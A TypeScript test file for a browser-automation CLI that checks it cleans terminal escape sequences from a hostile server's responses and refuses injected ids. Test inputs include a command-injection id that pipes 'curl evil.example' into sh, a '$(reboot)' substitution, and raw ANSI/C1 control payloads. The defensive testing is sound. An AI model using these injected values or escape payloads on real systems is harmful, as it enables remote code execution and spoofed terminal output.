import { createServer } from 'node:net'
import type { AddressInfo } from 'node:net'
import { expect, onTestFinished, test } from 'vitest'
import {
  cliFor,
  endedSession,
  naiveTime,
  run,
  RUN_ID,
  session,
  SESSION_ID,
  startApi,
} from '../support/api.ts'
import { createCli } from '../support/cli.ts'
import { PAYLOADS } from '../support/payloads.ts'
import { onTerminal } from '../support/pty.ts'

/** Every payload in one text; those that forge a line come at its start. */
const EVIL = Object.values(PAYLOADS).join('|')
const TERMINAL = { CI: '1', NO_COLOR: '1' }
/** Nothing but text and line ends; with CI and NO_COLOR nothing of ours needs more. */
const ACTS =
  // eslint-disable-next-line no-control-regex
  /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|\r(?!\n)/

/** An object of the API with payloads wherever it has a text that is no id. */
function poison<Value>(value: Value, keep: string[] = []): Value {
  const entries = Object.entries(value as object).map(([name, field]) => [
    name,
    typeof field === 'string' && !name.endsWith('_id') && !keep.includes(name) ? EVIL : field,
  ])
  return Object.fromEntries(entries)
}

const TIMES = ['created_at', 'started_at', 'completed_at', 'status']
const badSession = (fields = {}) =>
  poison(
    session({ extensions: [EVIL], browser_address: EVIL, failure_reason: EVIL, ...fields }),
    TIMES,
  )
const badRun = (fields = {}) =>
  poison(run({ failure_reason: EVIL, title: EVIL, ...fields }), ['status'])

const ROUTES = {
  'POST /v1/browser_sessions': { json: { ...badSession(), timeout: 5, warning: EVIL } },
  'GET /v1/browser_sessions': {
    json: [badSession({ status: EVIL }), badSession({ status: 'x', started_at: EVIL })],
  },
  'GET /v1/browser_sessions/history': { json: [badSession({ completed_at: EVIL })] },
  'GET /v1/browser_sessions/*': { json: poison(endedSession(), ['status', 'completed_at']) },
  'PATCH /v1/browser_sessions/*': { status: 409, json: { detail: EVIL } },
  'POST /v1/browser_sessions/*/close': {
    status: 422,
    json: { detail: [{ loc: ['body', EVIL], msg: EVIL }] },
  },
  'POST /v1/run/tasks': { json: badRun({ status: 'queued' }) },
  'GET /v1/runs/*': { json: badRun({ status: 'failed' }) },
  'GET /v1/runs': { json: [badRun({ status: EVIL })] },
  'GET /v1/browser_profiles': { status: 500, json: { error: EVIL } },
  'GET /api/v1/organizations/me': { json: { organization_id: 'o_1', organization_name: EVIL } },
}

const COMMANDS: [args: string[], code: number][] = [
  [['session', 'create', '--timeout', '5'], 0],
  [['session', 'list'], 0],
  [['session', 'list', '--all'], 0],
  [['session', 'list', '--fields', 'status,app_url,extensions'], 0],
  [['session', 'get', SESSION_ID, '--show-secrets'], 0],
  [['session', 'patch', SESSION_ID, '--generate-browser-profile'], 5],
  [['session', 'close', SESSION_ID], 1],
  [['session', 'create', '--profile', 'mine'], 1],
  [['task', 'run', 'x', '--no-session'], 3],
  [['task', 'get', RUN_ID], 0],
  [['task', 'list'], 0],
  [['auth', 'status'], 0],
]

test.each(COMMANDS)('%j shows what a hostile server says, and does nothing', async (args, code) => {
  const cli = cliFor(await startApi(ROUTES))
  // What is said without --debug is said with it too.
  const terminal = onTerminal(cli, [...args, '--debug'], TERMINAL)
  expect((await terminal.end).code).toBe(code)
  expectNothingForged(terminal.output)
})

test.each([COMMANDS[0], COMMANDS[2], COMMANDS[4], COMMANDS[6]] as typeof COMMANDS)(
  '%j does nothing either as JSON and in a pipe',
  async (args, code) => {
    const cli = cliFor(await startApi(ROUTES))
    const terminal = onTerminal(cli, [...args, '--json'], TERMINAL)
    expect((await terminal.end).code).toBe(code)
    expectNothingForged(terminal.output)
    for (const flag of ['--json', '--debug']) {
      const { stdout, stderr } = await cli.run([...args, flag])
      expect(stdout + stderr, flag).not.toMatch(ACTS)
    }
  },
)

function expectNothingForged(output: string): void {
  expect(output).not.toMatch(ACTS)
  const forged = output
    .split('\r\n')
    .filter((line) => /^(error: b|✓ c|✓ Session pbs_1|warning: b)/.test(line))
  expect(forged).toEqual([])
}

test('the output of a task is cleaned for a terminal, and untouched in a pipe', async () => {
  const api = await startApi({ 'GET /v1/runs/*': { json: run({ output: EVIL }) } })
  const cli = cliFor(api)
  const terminal = onTerminal(cli, ['task', 'wait', RUN_ID], TERMINAL)
  expect((await terminal.end).code).toBe(0)
  expect(terminal.output).not.toMatch(ACTS)
  expect(terminal.output).toContain('␛[2J')
  const piped = await cli.run(['task', 'wait', RUN_ID])
  expect(piped.stdout).toBe(`${EVIL.toWellFormed()}\n`)
})

test('an invalid id is refused before it can appear in a command to paste', async () => {
  const id = 'pbs_1; curl evil.example | sh #'
  const api = await startApi({
    'POST /v1/browser_sessions': { json: session({ browser_session_id: id }) },
    'GET /v1/browser_sessions': (_, before) => ({
      json: [session(before > 0 ? { browser_session_id: id } : { created_at: naiveTime(5) })],
    }),
    'GET /v1/browser_sessions/*': { json: session({ runnable_id: id }) },
    'POST /v1/run/tasks': { json: run({ run_id: id, status: 'queued' }) },
    'GET /v1/runs': (_, before) => ({
      json: [run(before > 0 ? { run_id: id } : { created_at: naiveTime(5) })],
    }),
    'GET /v1/runs/*': {
      json: run({ status: 'failed', failure_reason: `already occupied by $(reboot)` }),
    },
  })
  const cli = cliFor(api)
  for (const args of [
    ['session', 'create'],
    ['session', 'list'],
    ['session', 'close', '--all'],
    ['task', 'run', 'x', '--no-session', '--no-wait'],
    ['task', 'run', 'x', '--session', SESSION_ID],
    ['task', 'list'],
  ]) {
    const { code, stdout, stderr } = await cli.run(args)
    expect(code).not.toBe(0)
    expect(stdout + stderr).not.toContain('curl')
  }
  expect((await cli.run(['task', 'wait', RUN_ID])).stderr).not.toContain('task wait $(reboot)')
})

test('a reason phrase and a header are cleaned too', async () => {
  const reason = '\x1b[31mEvil\x07 \x9b2J'
  const server = createServer((socket) => {
    socket.once('data', () =>
      socket.end(
        Buffer.from(
          `HTTP/1.1 302 ${reason}\r\nlocation: https://evil.example/\x9b2J\x07\r\nretry-after: \x9b2J\r\ncontent-length: 0\r\n\r\n`,
          'latin1',
        ),
      ),
    )
    socket.on('error', () => {})
  })
  onTestFinished(() => void server.close())
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  const cli = createCli({ SKYVERN_BASE_URL: `http://127.0.0.1:${port}`, SKYVERN_API_KEY: 'k' })
  const { code, stderr } = await cli.run(['session', 'list', '--max-retries', '0', '--debug'])
  expect([1, 7]).toContain(code)
  expect(stderr).not.toMatch(ACTS)
})
